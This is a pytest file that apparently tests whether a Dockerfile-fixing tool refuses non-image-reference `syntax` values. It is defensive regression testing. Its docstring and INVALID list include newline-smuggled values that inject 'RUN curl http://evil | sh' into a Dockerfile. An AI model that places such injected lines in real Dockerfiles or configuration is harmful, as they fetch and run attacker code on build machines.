"""Issue 8.3: the `syntax` setting is written into Dockerfiles, so it must be an image reference.

`syntax = "docker/dockerfile:1.4\\nRUN curl http://evil | sh"` in a `.cachefix.toml` of any
parent folder (or the same value given to `--syntax`) made `fix` write that RUN at the top.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cachefix.cli import main
from tests.helpers import write

PIP = "FROM python:3.12\nRUN pip install flask\n"
DIGEST = "sha256:" + "0123456789abcdef" * 4

pytestmark = pytest.mark.usefixtures("in_tmp")

INVALID = [
    "docker/dockerfile:1.4\nRUN curl http://evil | sh",
    "docker/dockerfile:1.4\r\nRUN curl http://evil | sh",
    "docker/dockerfile:1.4\u2028RUN evil",
    "docker/dockerfile:1.4 ",
    " docker/dockerfile:1.4",
    "docker/dockerfile:1.4 --evil",
    "",
    "docker/Dockerfile:1.4",
    "docker//dockerfile",
    "docker/dockerfile:1.4:5",
    "docker/dockerfile@sha256:abc",
    "ｄocker/dockerfile:1.4",
    "docker/dockerfile:" + "1" * 129,
    "a" * 256,
]
VALID = [
    "docker/dockerfile:1.4",
    "docker/dockerfile:1",
    "docker.io/docker/dockerfile-upstream:master-labs",
    f"docker/dockerfile:1.7@{DIGEST}",
    "localhost:5000/frontends/dockerfile:1.7",
    "[::1]:5000/dockerfile",
]


@pytest.mark.parametrize("value", INVALID)
def test_a_syntax_in_a_parent_folders_config_that_is_no_image_reference_is_refused(tmp_path: Path, capsys,
                                                                                   value: str) -> None:
    config = write(tmp_path / ".cachefix.toml", f"syntax = {_toml_string(value)}\n")
    dockerfile = write(tmp_path / "svc" / "api" / "Dockerfile", PIP)
    for command in ("fix", "check"):
        status = main([command, "svc"])
        out, err = capsys.readouterr()
        assert (status, out) == (2, "")
        assert err.startswith(f"cachefix: error: {config}: `syntax` in the top level must be an image reference")
        assert err.count("\n") == 1
    assert dockerfile.read_text() == PIP


@pytest.mark.parametrize("value", INVALID)
def test_a_syntax_flag_that_is_no_image_reference_is_refused(tmp_path: Path, capsys, value: str) -> None:
    dockerfile = write(tmp_path / "Dockerfile", PIP)
    status = main(["fix", "--syntax", value, "Dockerfile"])
    out, err = capsys.readouterr()
    assert (status, out) == (2, "")
    assert err.startswith("cachefix: error: --syntax must be an image reference") and err.count("\n") == 1
    assert dockerfile.read_text() == PIP


@pytest.mark.parametrize("value", VALID)
def test_an_image_reference_is_written_as_the_directive(tmp_path: Path, capsys, value: str) -> None:
    write(tmp_path / "pyproject.toml", f"[tool.cachefix]\nsyntax = {_toml_string(value)}\n")
    dockerfile = write(tmp_path / "Dockerfile", PIP)
    assert main(["fix", "--quiet", "Dockerfile"]) == 0
    assert dockerfile.read_text().splitlines()[:2] == [f"# syntax={value}", "FROM python:3.12"]
    assert main(["check", "--quiet", "Dockerfile"]) == 0


def test_none_writes_no_directive(tmp_path: Path) -> None:
    dockerfile = write(tmp_path / "Dockerfile", PIP)
    assert main(["fix", "--quiet", "--syntax", "none", "Dockerfile"]) == 0
    assert dockerfile.read_text().startswith("FROM python:3.12\nRUN --mount=type=cache")


def _toml_string(value: str) -> str:
    return json.dumps(value)  # a JSON string of BMP characters is a TOML basic string


def test_a_directive_with_control_characters_after_the_at_sign_is_never_echoed(tmp_path: Path, capsys) -> None:
    write(tmp_path / "Dockerfile", "# syntax=docker/dockerfile:1.1@\x1b[2J\nFROM python:3.12\nRUN pip install flask\n")
    assert main(["check", "--quiet", "Dockerfile"]) == 1
    out = capsys.readouterr().out
    assert "CF101" in out and "\x1b" not in out
